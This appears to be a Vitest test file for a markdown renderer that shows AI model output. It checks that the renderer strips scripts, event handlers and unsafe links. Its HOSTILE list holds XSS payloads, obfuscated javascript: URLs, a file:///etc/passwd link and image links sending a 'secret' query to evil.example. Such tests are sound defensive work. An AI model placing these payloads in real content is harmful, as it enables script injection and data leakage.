import { describe, expect, it } from 'vitest';
import { MarkdownBlocks, safeLink } from './markdown';

function dom(text: string): HTMLElement {
  const box = document.createElement('div');
  box.innerHTML = new MarkdownBlocks().render(text).join('');
  return box;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><input name=a></form>',
  'text <b onclick="alert(1)">bold</b>',
  '![a](https://evil.example/?q=secret)',
  '![a][ref]\n\n[ref]: https://evil.example/?q=secret',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](/api/auth/session)',
  '[x](/\\evil.example)',
  '<javascript:alert(1)>',
  '```js" onmouseover="alert(1)\ncode\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '[x](#ask:"onclick="alert(1))',
  '# <math><mtext><script>alert(1)</script></mtext></math>'
];

describe('Markdown from a model', () => {
  it.each(HOSTILE)('V07: has nothing in it that runs, loads or leads away: %s', (text) => {
    const box = dom(text);
    expect(
      box.querySelector('script,img,svg,iframe,style,form,input,object,embed,link,math,video,audio')
    ).toBeNull();
    for (const element of box.querySelectorAll('*')) {
      for (const { name } of element.attributes)
        expect(name).not.toMatch(/^on|^style$|^src|^srcset$|^action$|^formaction$/);
      expect(element.getAttribute('href') ?? 'https://x').toMatch(/^(https?:\/\/(?!evil)|mailto:)/);
    }
  });

  it('shows HTML as the text that it is', () => {
    expect(dom('a <b>b</b>').textContent.trim()).toBe('a <b>b</b>');
    expect(dom('<div>x</div>').textContent.trim()).toBe('<div>x</div>');
  });

  it('names an image and does not load it', () => {
    expect(dom('![the plot](https://evil.example/x.png)').textContent.trim()).toBe('the plot');
  });

  it('opens links elsewhere and tells them nothing', () => {
    const link = dom('[Superset](https://superset.apache.org/)').querySelector('a');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(link?.target).toBe('_blank');
  });

  it('makes a proposed message a button', () => {
    const button = dom(
      '[покажи](#ask:%D0%9F%D0%BE%D0%BA%D0%B0%D0%B6%D0%B8%20%22%D0%B2%D1%81%D1%91%22)'
    ).querySelector('button');
    expect(button?.textContent).toBe('покажи');
    expect(button?.dataset.ask).toBe('Покажи "всё"');
    expect(button?.type).toBe('button');
    expect(dom('[x](#ask:%E0%A4%A)').querySelector('button')).toBeNull();
  });

  it('keeps code, tables and lists', () => {
    const box = dom('```sql\nSELECT 1 < 2\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n3. x\n\n- [x] y');
    expect(box.querySelector('pre code.language-sql')?.textContent).toBe('SELECT 1 < 2');
    expect(box.querySelectorAll('td')).toHaveLength(2);
    expect(box.querySelector('ol')?.getAttribute('start')).toBe('3');
  });

  it('draws only the last block of a growing text anew', () => {
    const blocks = new MarkdownBlocks();
    const before = blocks.render('# One\n\ntwo **thr');
    const after = blocks.render('# One\n\ntwo **three** four');
    expect(after[0]).toBe(before[0]);
    expect(after).toHaveLength(2);
    expect(after[1]).toContain('<strong>three</strong>');
  });

  it('draws a text that grows letter by letter as it draws the whole', () => {
    const text =
      '# A\n\npara *one*\ntwo\n\n- a\n- b\n\n  c\n\n1. x\n\n```sql\nSELECT\n\n1\n```\n\n| a |\n|---|\n| 1 |\n\n> q\n\nSetext\n===\n\n    code\n\n<div>\n\nend\r\n\r\nlast';
    const growing = new MarkdownBlocks();
    for (let end = 1; end <= text.length; end++) {
      const part = text.slice(0, end);
      expect(growing.render(part)).toEqual(new MarkdownBlocks().render(part));
    }
  });

  it('begins anew with another text', () => {
    const blocks = new MarkdownBlocks();
    blocks.render('a\n\nb\n\nc\n\nd');
    expect(blocks.render('x').join('')).toBe('<p>x</p>\n');
  });

  it('sees a link definition that arrives later', () => {
    const blocks = new MarkdownBlocks();
    expect(blocks.render('[a][r]\n\nmore').join('')).not.toContain('<a');
    expect(blocks.render('[a][r]\n\nmore\n\n[r]: https://x.example/\n').join('')).toContain('<a');
  });
});

describe('a table', () => {
  it('has no heading that names its column with nothing', () => {
    const table = dom('| | n |\n|---|---|\n| a | 1 |');
    expect([...table.querySelectorAll('thead tr > *')].map(({ localName }) => localName)).toEqual([
      'td',
      'th'
    ]);
  });
});

describe('a link', () => {
  it.each(['https://a.example/x', 'http://127.0.0.1:8091/', 'mailto:a@b.example', '/dashboards/1?env_id=x'])(
    'may lead to %s',
    (href) => expect(safeLink(href)).toBe(href)
  );
  it.each(['', 'x', '#y', 'javascript:1', ' javascript:1', '/api/x', '//evil', '/\\evil', '/dashboardsx'])(
    'may not lead to %j',
    (href) => expect(safeLink(href)).toBeNull()
  );
});
